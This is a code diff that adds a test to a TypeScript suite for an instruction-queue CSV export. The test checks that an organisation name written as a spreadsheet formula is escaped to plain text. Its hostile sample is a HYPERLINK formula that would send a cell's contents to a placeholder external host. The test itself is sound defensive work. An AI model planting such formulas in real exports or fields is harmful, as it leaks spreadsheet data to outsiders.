@@ -317,6 +317,27 @@ describe.each(databaseKinds())("the instruction queue on %s", (kind) => {
     expect((await queueCsv(db, cherOnly, filter())).trimEnd().split("\r\n")).toHaveLength(3);
   });
 
+  it("writes a name typed as a formula as text, so the spreadsheet that opens the export never runs it", async () => {
+    const dossier = await db.dossier.findUniqueOrThrow({
+      where: { id: dossiers.get("CAPASSO-2026-00001")! },
+      select: { organisationId: true, organisation: { select: { name: true } } },
+    });
+    const hostile = '=HYPERLINK("https://exemple.invalid/?q="&A1;"Voir")';
+    await db.organisation.update({ where: { id: dossier.organisationId }, data: { name: hostile } });
+    try {
+      const csv = await queueCsv(db, admin, filter("dispositif=cap-asso&tri=numero"));
+      const line = csv.split("\r\n").find((row) => row.startsWith("CAPASSO-2026-00001;"))!;
+      expect(line).toContain(`;"'=HYPERLINK(""https://exemple.invalid/?q=""&A1;""Voir"")";`);
+      // Amounts stay numbers.
+      expect(csv).toContain(";12345,00;");
+    } finally {
+      await db.organisation.update({
+        where: { id: dossier.organisationId },
+        data: { name: dossier.organisation.name },
+      });
+    }
+  });
+
   it("entrusts dossiers in one go: timeline, revision and one notification per batch", async () => {
     const ids = ["CAPASSO-2026-00001", "CAPASSO-2026-00002"].map((number) => dossiers.get(number)!);
     const before = await db.dossier.findMany({ where: { id: { in: ids } }, select: { revision: true } });
